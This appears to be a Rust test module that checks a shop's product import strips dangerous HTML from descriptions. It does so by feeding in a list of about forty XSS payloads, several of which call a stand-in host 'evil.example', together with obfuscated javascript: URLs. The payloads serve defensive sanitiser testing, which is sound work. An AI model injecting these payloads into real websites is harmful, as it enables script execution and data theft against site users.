//! Descriptions that would do something to whoever reads them.

use super::{file, plainly, take};
use crate::support::Shop;

/// Things that do something, as attackers write them.
const ATTACKS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jAvAsCrIpT&#58;alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"//evil.example/x.swf\">",
    "<form action=\"//evil.example\"><input name=p><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<body onload=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=\"position:fixed;inset:0;background:url(javascript:alert(1))\">x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=\"//evil.example/\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onclick=alert(1)>x</p>",
    "<p onmouseover=\"alert(1)\" class=\"x\">y</p>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=\"//evil.example\" target=_blank onclick=alert(1)>x</a>",
];

/// Where they stand: alone, in a text, in a list, unfinished, in a table.
const PLACES: [(&str, &str); 5] = [
    ("", ""),
    ("<p>Before ", " after</p>"),
    ("<ul><li>", "</li></ul>"),
    ("<b><i>", ""),
    ("<table><tr><td>", "</td></tr></table>"),
];

/// More of them, one in each line.
const MORE_ATTACKS: &str = include_str!("../../fixtures/hostile_html.txt");

/// All that a kept description may be made of: words, lists, tables, links and pictures.
const ELEMENTS: &str = "a abbr acronym area article aside b bdi bdo blockquote br caption center cite code col \
    colgroup data dd del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img \
    ins kbd li map mark nav ol p pre q rp rt rtc ruby s samp small span strike strong sub summary sup table tbody td \
    th thead time tr tt u ul var wbr";

/// All that an element may say of itself.
const ATTRIBUTES: &str = "align alt char charoff cite colspan datetime dir headers height href hreflang lang rel \
    rowspan scope size span src start summary title width";

/// Where a link may lead, besides within the shop.
const SCHEMES: [&str; 4] = ["http", "https", "mailto", "tel"];

/// An element as it is written: its name and its attributes.
type Element<'a> = (&'a str, Vec<(&'a str, &'a str)>);

/// The elements of a text as a browser sees them, or what is left where it is not plainly written.
fn elements(html: &str) -> Result<Vec<Element<'_>>, &str> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some((_, tag)) = rest.split_once('<') {
        let tag = tag.strip_prefix('/').unwrap_or(tag);
        let end = tag.find(|letter: char| !letter.is_ascii_alphanumeric()).ok_or(tag)?;
        let (name, mut inside) = tag.split_at(end);
        let mut attributes = Vec::new();
        while let Some(attribute) = inside.strip_prefix(' ') {
            let (key, value) = attribute.split_once("=\"").ok_or(attribute)?;
            let (value, after) = value.split_once('"').ok_or(attribute)?;
            attributes.push((key, value));
            inside = after;
        }
        rest = inside.strip_prefix('>').ok_or(tag)?;
        found.push((name, attributes));
    }
    Ok(found)
}

/// The scheme of an address as a browser finds it: without controls and blanks before it, nor breaks and tabs within.
fn scheme(address: &str) -> Option<String> {
    let address = address.trim_start_matches(|letter: char| letter <= ' ');
    let (scheme, _) = address.split_once(':')?;
    let scheme = scheme.replace(['\t', '\r', '\n'], "").to_lowercase();
    let is_one = scheme.starts_with(|letter: char| letter.is_ascii_lowercase())
        && scheme.chars().all(|letter| letter.is_ascii_alphanumeric() || "+-.".contains(letter));
    is_one.then_some(scheme)
}

/// What a text has that no description may have.
fn strange(html: &str) -> Vec<String> {
    let elements = match elements(html) {
        Ok(elements) => elements,
        Err(rest) => return vec![rest.to_owned()],
    };
    let mut strange = Vec::new();
    for (name, attributes) in elements {
        if !ELEMENTS.split_whitespace().any(|known| known == name) {
            strange.push(name.to_owned());
        }
        for (key, value) in attributes {
            // What a quotation cites is shown by no browser, and never followed.
            let leads_away = ["href", "src"].contains(&key)
                && scheme(value).is_some_and(|scheme| !SCHEMES.contains(&&*scheme));
            if leads_away || !ATTRIBUTES.split_whitespace().any(|known| known == key) {
                strange.push(format!("{name} {key}={value}"));
            }
        }
    }
    strange
}

#[test]
fn the_list_of_what_is_allowed_tells_what_is_not() {
    let allowed = "<p title=\"a > b\">1 &lt; 2<br><a href=\"/x\" rel=\"noopener\">x</a></p>";

    assert_eq!(strange(allowed), Vec::<String>::new());
    for hostile in [
        "<script>alert(1)</script>",
        "<p onclick=\"alert(1)\">x</p>",
        "<p title=\"x\"onclick=alert(1)>x</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" \u{1}java\nScript:alert(1)\">x</a>",
        "<img src=x>",
        "<!-- -->",
        "<p",
    ] {
        assert_ne!(strange(hostile), Vec::<String>::new(), "{hostile}");
    }
}

#[tokio::test]
async fn descriptions_of_every_known_attack_hold_only_what_is_allowed() {
    let shop = Shop::open().await;
    let mut csv = csv::Writer::from_writer(Vec::new());
    csv.write_record(["Handle", "Title", "Body (HTML)", "Variant Price"]).unwrap();
    let attacks = ATTACKS.iter().copied().chain(MORE_ATTACKS.lines());
    let bodies =
        attacks.flat_map(|attack| PLACES.map(|(before, after)| format!("{before}{attack}{after}")));
    let mut count = 0;
    for body in bodies {
        count += 1;
        csv.write_record([&format!("p{count}"), "Harmless", &body, "1"]).unwrap();
    }
    let csv = String::from_utf8(csv.into_inner().unwrap()).unwrap();

    let (totals, heard) = take(&shop, file(&csv).path(), &plainly()).await;

    assert_eq!((totals.created, totals.refused), (count, 0), "{:?}", heard.refused());
    assert!(count >= 600, "{count}");
    let kept: Vec<String> = shop
        .sql(async |tx| {
            sqlx::query_scalar("SELECT description_html FROM product").fetch_all(tx).await
        })
        .await;
    for html in kept {
        assert_eq!(strange(&html), Vec::<String>::new(), "in {html}");
    }
}
